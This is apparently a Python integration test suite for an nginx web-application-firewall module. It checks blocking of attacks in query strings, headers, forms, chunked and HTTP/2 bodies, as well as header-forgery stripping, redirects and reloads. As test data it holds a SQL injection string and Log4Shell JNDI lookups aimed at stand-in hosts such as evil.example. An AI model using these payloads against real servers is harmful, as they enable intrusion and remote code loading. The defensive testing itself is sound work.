"""nginx with the module and the real agent."""

import concurrent.futures
import subprocess
import threading

from rehearsal.client import FORM, ask
from rehearsal.parts import ATTACK
from support import Case

SQL = b"id=1' OR '1'='1"
REDIRECT = ('{"site": {"agentLevel": "block", "immediateBlock": true, "blockHTTPCode": 302,'
            ' "blockRedirectURL": "https://example.com/blocked?a=1"}}')


class Verdicts(Case):
    """What becomes of requests."""

    def setUp(self):
        super().setUp()
        self.agent = self.real_agent()

    def test_lets_a_harmless_request_on_with_the_agents_headers(self):
        reply = ask(self.nginx().port)
        self.assertEqual(reply.status, 200)
        self.assertEqual(reply.seen("X-SigSci-AgentResponse"), ["200"])
        self.assertEqual(reply.seen("X-SigSci-RequestID"), [])

    def test_gives_id_and_tags_of_a_request_with_signals(self):
        reply = ask(self.nginx().port, headers=[("User-Agent", "curl/8.0")])
        self.assertRegex(reply.seen("X-SigSci-RequestID")[0], "^[0-9a-f]{24}$")
        self.assertNotEqual(reply.seen("X-SigSci-Tags"), [])

    def test_blocks_attacks_in_every_part_before_the_application_sees_them(self):
        nginx = self.nginx()
        upload = SQL + b"&x=" + b"a" * 200_000
        attacks = {
            "query": lambda: ask(nginx.port, ATTACK),
            "header": lambda: ask(nginx.port, headers=[("X-Name", "${jndi:ldap://evil.example/a}")]),
            "form": lambda: ask(nginx.port, "/", "POST", SQL, [FORM]),
            "chunked form": lambda: ask(nginx.port, "/", "POST", SQL, [FORM], chunked=True),
            "body on disk": lambda: ask(nginx.port, "/", "POST", upload, [FORM]),
            "body of a method without one": lambda: ask(nginx.port, "/", "DELETE", SQL, [FORM]),
            "header after a hundred others": lambda: ask(
                nginx.port, headers=[(f"X-{n}", "1") for n in range(120)] + [("X-Name", "${jndi:ldap://e.example/a}")]),
        }
        for name, attack in attacks.items():
            with self.subTest(name):
                self.assertEqual(attack().status, 406)
        self.assertEqual(self.app.seen, [])
        self.assertEqual(self.counters(nginx)["portcullis_blocked_total"], len(attacks))

    def test_blocks_over_http2_with_and_without_a_length(self):
        nginx = self.nginx()
        for name, upload in [("length", ["--data-binary", SQL.decode()]), ("no length", ["-T", "-", "-X", "POST"])]:
            with self.subTest(name):
                status = subprocess.run(
                    ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code} %{http_version}", "--http2-prior-knowledge",
                     "-H", ": ".join(FORM), *upload, f"http://127.0.0.1:{nginx.port2}/"],
                    input=SQL, stdout=subprocess.PIPE, check=True).stdout
                self.assertEqual(status, b"406 2")
        self.assertEqual(self.app.seen, [])

    def test_removes_what_a_client_sends_under_the_agents_names(self):
        nginx = self.nginx(change=[("lua_socket_log_errors off;", "underscores_in_headers on;")])
        forged = ["X-SigSci-Tags", "x-sigsci-tags", "X_SigSci_Tags", "X-SIGSCI_AgentResponse", "X-SigSci-Anything"]
        reply = ask(nginx.port, headers=[(name, "forged") for name in forged])
        self.assertNotIn(b"forged", reply.body)
        self.assertEqual(self.counters(nginx)["portcullis_forged_headers_total"], 1)

    def test_redirects_where_the_policy_says_so(self):
        self.agent.reload(REDIRECT)
        reply = ask(self.nginx().port, ATTACK)
        self.assertEqual((reply.status, reply.header("Location")), (302, "https://example.com/blocked?a=1"))
        self.assertEqual(self.app.seen, [])

    def test_obeys_codes_that_nginx_has_no_page_for(self):
        for code in (418, 430, 444, 499, 511, 599):
            with self.subTest(code):
                self.agent.reload('{"site": {"agentLevel": "block", "immediateBlock": true, "blockHTTPCode": %d}}' % code)
                nginx = self.nginx()
                self.assertEqual(ask(nginx.port, ATTACK).status, code)
                nginx.stop()
        self.assertEqual(self.app.seen, [])

    def test_shows_the_agent_the_first_part_of_a_long_body_and_passes_it_whole(self):
        nginx = self.nginx(change=[("body_max_bytes = 307200", "body_max_bytes = 4096")])
        early, late = SQL + b"&x=" + b"a" * 100_000, b"x=" + b"a" * 100_000 + b"&" + SQL
        self.assertEqual(ask(nginx.port, "/", "POST", early, [FORM]).status, 406)
        self.assertEqual(ask(nginx.port, "/", "POST", late, [FORM]).status, 200)
        self.assertEqual(self.app.seen[0]["bytes"], len(late))
        self.assertEqual(self.counters(nginx)["portcullis_body_truncated_total"], 2)

    def test_reports_the_response_of_a_request_with_an_id(self):
        nginx = self.nginx()
        self.assertEqual(ask(nginx.port, ATTACK).status, 406)
        self.agent.wait_for("response reported code=406 id=")
        self.await_counter(nginx, "portcullis_reports_sent_total", 1)

    def test_reports_an_anomalous_response_of_a_request_without_one(self):
        self.app.status = 404
        ask(self.nginx().port)
        self.agent.wait_for("response reported code=404 verdict=200")

    def test_reloads_under_load_without_a_failed_request(self):
        nginx, ended = self.nginx(), threading.Event()

        def load(name):
            statuses = []
            while not ended.is_set():
                statuses.append(ask(nginx.port, f"/?name={name}").status)
                statuses.append(ask(nginx.port, ATTACK).status)
            return statuses

        with concurrent.futures.ThreadPoolExecutor(4) as pool:
            clients = [pool.submit(load, f"bob{number}") for number in range(4)]
            for _ in range(3):
                nginx.reload()
                self.assertEqual(ask(nginx.port, ATTACK).status, 406)
            ended.set()
            statuses = [client.result() for client in clients]
        for seen in statuses:
            self.assertGreater(len(seen), 2)
            self.assertEqual(seen, [200, 406] * (len(seen) // 2))
